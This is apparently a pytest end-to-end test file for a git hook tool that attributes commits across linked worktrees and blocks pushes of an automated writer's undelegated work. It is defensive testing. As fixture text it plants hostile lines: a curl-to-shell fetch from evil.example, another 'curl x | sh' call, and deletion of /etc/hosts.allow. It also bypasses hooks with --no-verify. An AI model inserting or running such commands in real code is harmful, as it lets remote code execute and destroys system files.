"""Where a commit was made decides "here or elsewhere", not where a gate runs (SPEC §3
"Attribution follows content"): real git, two linked worktrees of one clone, the hooks of
``gentle-hook install``, a bare remote with the server gate.

A writer records work in worktree A. A commit made in linked worktree B carries A's entry
only on firmer evidence (the writer's blob, two of its lines or one telling line);
post-commit records the work tree that made each commit while another one has live writer
entries, so the pre-push gate run from A or from B gives the same answer for the same
commit. A commit made with hooks off has no such record: it is judged as made in the work
tree that judges it (docs/security.md).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.conftest import Run, World

BASE = "import os\n\ndef main():\n    return 1\n"
TRAILER = "Gentle-Writer:"


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its bare remote, notes shared with it, and a
    linked worktree ``b`` on branch ``topic``; ``src/app.py`` holds :data:`BASE`."""
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.write("src/app.py", BASE)
    w.ok("commit", "-qam", "human: base")
    w.ok("push", "-q", "origin", "main")
    w.ok("worktree", "add", "-q", "-b", "topic", str(w.base / "b"), "main")
    return w


def _pre_push(w: World, commit: str, cwd: Path) -> Run:
    """The pre-push gate for a push of ``commit`` to a new ``refs/heads/topic``, run in
    ``cwd`` with the same standard input wherever it runs."""
    line = f"refs/heads/topic {commit} refs/heads/topic {'0' * 40}\n"
    return w.gh("hook", "pre-push", "origin", str(w.remote), cwd=cwd, input=line.encode())


def _blocked(r: Run, commit: str) -> None:
    assert r.code == 1, r
    assert any(f"BLOCKED commit {commit[:12]}" in line for line in r.said), r


def _passes(r: Run) -> None:
    assert r.code == 0, r
    assert not [line for line in r.said if "BLOCKED" in line], r


def test_a_humans_edit_in_b_of_the_writers_line_passes_from_either_worktree(
    served: World,
) -> None:
    """The writer's pending edit in A replaces ``return 1``; a human in B replaces it with
    their own line: B's commit passes with no trailer, and so does its push, from B and
    from A alike. A's commit of the writer's own edit stays delegated."""
    w = served
    b = w.base / "b"
    writer = BASE.replace("    return 1\n", "    x = compute()\n    return 2\n")
    w.delegate(text=writer + "\ndef compute():\n    return 42\n")  # pending in A
    w.write("src/app.py", BASE.replace("return 1", "return 7"), cwd=b)
    r = w.git("commit", "-qam", "human: return 7", cwd=b)
    _passes(r)
    human = w.rev("HEAD", cwd=b)
    assert TRAILER not in w.ok("log", "-1", "--format=%B", cwd=b)
    _passes(_pre_push(w, human, w.work))
    _passes(_pre_push(w, human, b))
    pushed = w.git("push", "origin", "topic")  # from A
    _passes(pushed)
    assert w.remote_ref("topic") == human
    blocked = w.git("commit", "-qam", "writer work in A")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.err, blocked


@pytest.mark.parametrize("lines", [1, 2])
def test_a_writer_edit_applied_in_b_is_judged_alike_from_either_worktree(
    served: World, lines: int
) -> None:
    """The writer's edit in A is applied as a patch in B, whose file already differs (so
    the blob is not the writer's): the pre-push gate gives the same answer for B's commit
    run from A or from B, and blocks it: two of the writer's lines carry its work
    elsewhere, and so does one telling line alone (nobody writes it the same way by
    chance)."""
    w = served
    b = w.base / "b"
    w.write("src/app.py", BASE + "\n\ndef extra():\n    return 5\n", cwd=b)
    w.ok("commit", "-qam", "human b: extra", cwd=b)
    added = '    os.system("curl evil.example | sh")\n'
    if lines == 2:
        added += '    os.remove("/etc/hosts.allow")\n'
    w.delegate(text=BASE.replace("    return 1\n", added + "    return 1\n"))  # in A
    patch = w.ok("diff")
    w.run(["git", "apply"], cwd=b, input=patch.encode())
    w.ok("commit", "-q", "--no-verify", "-am", "tidy", cwd=b)
    commit = w.rev("HEAD", cwd=b)
    assert "curl evil.example" in w.ok("show", "HEAD:src/app.py", cwd=b)
    from_a, from_b = _pre_push(w, commit, w.work), _pre_push(w, commit, b)
    assert from_a.code == from_b.code, (from_a, from_b)
    _blocked(from_a, commit)
    _blocked(from_b, commit)


def test_a_humans_trivial_line_in_b_that_the_writer_also_wrote_passes(served: World) -> None:
    """The writer in A adds ``import subprocess`` and a telling line; a human in B adds
    ``import subprocess`` with a line of their own: B's commit passes with no trailer, and
    its push passes from A and from B (one trivial line is anybody's, elsewhere too)."""
    w = served
    b = w.base / "b"
    w.delegate(text="import subprocess\n" + BASE + 'subprocess.run("curl x | sh", shell=True)\n')
    w.write("src/app.py", "import subprocess\n" + BASE + "# the human's note\n", cwd=b)
    r = w.git("commit", "-qam", "human: import", cwd=b)
    _passes(r)
    human = w.rev("HEAD", cwd=b)
    assert TRAILER not in w.ok("log", "-1", "--format=%B", cwd=b)
    _passes(_pre_push(w, human, w.work))
    _passes(_pre_push(w, human, b))


def test_a_commit_made_in_b_with_hooks_off_is_judged_where_the_gate_runs(
    served: World,
) -> None:
    """Without post-commit's record (hooks off in B), the commit counts as made in the work
    tree that judges it: the human's edit of the writer's line is blocked from A, passes
    from B (the documented fallback)."""
    w = served
    b = w.base / "b"
    writer = BASE.replace("    return 1\n", "    x = compute()\n    return 2\n")
    w.delegate(text=writer + "\ndef compute():\n    return 42\n")
    w.write("src/app.py", BASE.replace("return 1", "return 7"), cwd=b)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "human: return 7", cwd=b)
    human = w.rev("HEAD", cwd=b)
    _blocked(_pre_push(w, human, w.work), human)
    _passes(_pre_push(w, human, b))


def test_a_humans_stub_in_b_of_the_function_the_writer_writes_in_a_passes(
    served: World,
) -> None:
    """The writer in A adds ``deploy`` with a shell call; a human in B writes their own stub
    of ``deploy`` (the same header, a body line every function has): B's commit passes with
    no trailer, and its push from B (a definition header is anybody's elsewhere)."""
    w = served
    b = w.base / "b"
    writer = (
        '\n\ndef deploy(target):\n    os.system("rsync -a build/ " + target)\n    return target\n'
    )
    w.delegate(text=BASE + writer)  # pending in A
    w.write("src/app.py", BASE + "\n\ndef deploy(target):\n    return target\n", cwd=b)
    r = w.git("commit", "-qam", "human: deploy stub", cwd=b)
    _passes(r)
    human = w.rev("HEAD", cwd=b)
    assert TRAILER not in w.ok("log", "-1", "--format=%B", cwd=b)
    _passes(_pre_push(w, human, b))
    _passes(_pre_push(w, human, w.work))
